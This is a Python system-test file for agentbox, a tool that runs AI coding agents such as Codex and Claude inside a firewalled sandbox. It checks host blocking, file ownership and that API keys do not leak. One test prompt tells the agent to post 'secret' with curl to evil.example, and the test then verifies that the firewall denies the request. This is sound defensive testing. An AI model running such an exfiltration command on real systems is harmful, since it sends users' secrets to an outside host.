# SPDX-License-Identifier: Apache-2.0
"""The real agents, in the box, through the firewall, against stand-ins for their vendors."""
import os

from box import AGENTBOX, HOME, PATIENCE, SESSIONS, Internet, SystemTest, wait_until
from screen import Screen

EVIL = {"198.51.100.10", "2001:db8:51::10"}
VENDOR = {"codex": "api.openai.com", "claude": "api.anthropic.com"}
BLOCKED = {"codex": '"api.openai.com", "chatgpt.com"', "claude": '"api.anthropic.com"'}
KEY = {"codex": {"CODEX_API_KEY": "sk-stand-in"}, "claude": {"ANTHROPIC_API_KEY": "sk-ant-stand-in"}}
# The text that an agent shows when it is ready, and the keys that make it quit.
READY = {"codex": "Ask Codex to do anything", "claude": "bypass permissions on"}
LEAVE = {"codex": ("C-c",), "claude": ("C-c", "C-c")}
# Codex requests it at each interactive start; see src/policy/vendor_hosts.cpp.
KNOWN_REQUESTS = {"codex": {"raw.githubusercontent.com"}, "claude": set()}
# What only an unrestricted agent would reach; only the firewall's own queries for the vendors' names may leave.
ALLOWED_NAMES = {"api.openai.com", "chatgpt.com", "api.anthropic.com"}


class Agents(SystemTest):
    def prompt(self, agent, command, *options, **more):
        keys = KEY[agent]
        return self.agentbox("run", agent, *(f"--env={name}" for name in keys), *options, "--prompt",
                             f"Please do this: <run>{command}</run>", **keys, **more)

    def check_work(self, agent):
        """The agent runs the command of "its model", the file belongs to the developer, and nothing else left the box."""
        self.clear_audit()
        internet = Internet()
        result = self.prompt(agent, f"printf 'made by {agent}' > made.txt && curl -s -m 5 http://evil.example/ -d secret; true")
        self.assertCode(result, 0)
        self.assertIn("The stand-in is done.", result.out)
        made = self.workspace / "made.txt"
        self.assertEqual(made.read_text(), f"made by {agent}")
        self.assertEqual((made.stat().st_uid, made.stat().st_gid), (os.getuid(), os.getgid()))
        self.assertGreaterEqual(len([r for r in internet.http() if r["host"] == VENDOR[agent] and r["method"] == "POST"]), 2)
        self.assertLessEqual({query["name"].lower() for query in internet.dns()}, ALLOWED_NAMES)
        self.assertEqual([packet for packet in internet.packets() if packet["to"] in EVIL], [])
        denied = {record.get("name") for record in self.audit() if record.get("verdict") not in ("allow", "allowed")}
        self.assertLessEqual(denied, {"evil.example", None}, "the agent's own telemetry was refused")

    def test_codex_works_through_the_firewall(self):
        self.check_work("codex")

    def test_claude_works_through_the_firewall(self):
        self.check_work("claude")

    def check_interactive(self, agent):
        """On a terminal the agent's prompt is the first thing on the screen: no login, no question; and it works."""
        self.clear_audit()
        keys = KEY[agent]
        screen = Screen([AGENTBOX, "run", agent, *(f"--env={name}" for name in keys)], self.workspace, self.environment(**keys))
        self.addCleanup(screen.close)
        screen.wait_for(READY[agent])
        screen.type(f"Please do this: <run>printf 'made by {agent}' > made.txt</run>")
        screen.wait_for("made.txt")
        # An Enter that comes too soon after the text counts as pasted.
        screen.wait_for("The stand-in is done.", each_poll=lambda: self.workspace.joinpath("made.txt").exists() or screen.press("Enter"))
        self.assertEqual((self.workspace / "made.txt").read_text(), f"made by {agent}")
        text = screen.wait_for("ended with ", each_poll=lambda: READY[agent] in screen.text() and screen.press(*LEAVE[agent]))
        self.assertIn("ended with 0.", text)
        self.assertNotIn("denied:", text, "the agent's own requests are not reported")
        denied = {record.get("name") for record in self.audit() if record.get("verdict") == "deny"}
        self.assertEqual(denied - {None, ""}, KNOWN_REQUESTS[agent])

    def test_codex_on_a_terminal_is_ready_immediately(self):
        self.check_interactive("codex")

    def test_claude_on_a_terminal_is_ready_immediately(self):
        self.check_interactive("claude")

    def test_codex_with_a_key_needs_the_host_for_keys(self):
        self.project_config('[network]\nblock_hosts = ["api.openai.com"]\n')
        result = self.prompt("codex", "true")
        self.assertCode(result, 126)
        self.assertIn("api.openai.com", result.err)
        self.project_config('[network]\nblock_hosts = ["chatgpt.com"]\n')
        self.assertCode(self.prompt("codex", "true"), 0)

    def check_refused(self, agent):
        """Without its vendor on the list the run ends immediately, naming the host; with it on the list the same run works."""
        self.project_config(f"[network]\nblock_hosts = [{BLOCKED[agent]}]\n")
        internet = Internet()
        result = self.prompt(agent, "touch made.txt")
        self.assertCode(result, 126)
        self.assertIn(VENDOR[agent], result.err)
        self.assertFalse((self.workspace / "made.txt").exists())
        self.assertNotIn(VENDOR[agent], {query["name"] for query in internet.dns()})
        self.project_config("")
        self.assertCode(self.prompt(agent, "touch made.txt"), 0)
        self.assertTrue((self.workspace / "made.txt").exists())

    def test_codex_without_its_host_fails_immediately_and_says_which(self):
        self.check_refused("codex")

    def test_claude_without_its_host_fails_immediately_and_says_which(self):
        self.check_refused("claude")

    def test_credentials_are_in_no_file_of_ours_and_no_command_line(self):
        """A key given with --env NAME reaches the agent, and nothing that outlives or describes the box."""
        secret = "sk-ant-very-secret-0123456789"
        process = self.start("run", "--env=ANTHROPIC_API_KEY", "--", "sh", "-c",
                             'printf %s "$ANTHROPIC_API_KEY" >seen; sleep 3', ANTHROPIC_API_KEY=secret)
        seen = self.workspace / "seen"
        wait_until(lambda: seen.exists() and seen.read_text() == secret, "the agent sees its key")
        for directory in os.listdir("/proc"):
            try:
                with open(f"/proc/{directory}/cmdline", "rb") as file:
                    self.assertNotIn(secret.encode(), file.read(), f"on the command line of process {directory}")
            except (OSError, ValueError):
                continue
        inspect = self.agentbox("run", "--dry-run", "--json", "--env=ANTHROPIC_API_KEY", "--", "true", ANTHROPIC_API_KEY=secret)
        self.assertNotIn(secret, inspect.out + inspect.err)
        process.wait(PATIENCE)
        for directory in (HOME / ".local/state/agentbox", HOME / ".cache/agentbox", SESSIONS):
            for path in directory.rglob("*"):
                if path.is_file():
                    self.assertNotIn(secret.encode(), path.read_bytes(), str(path))
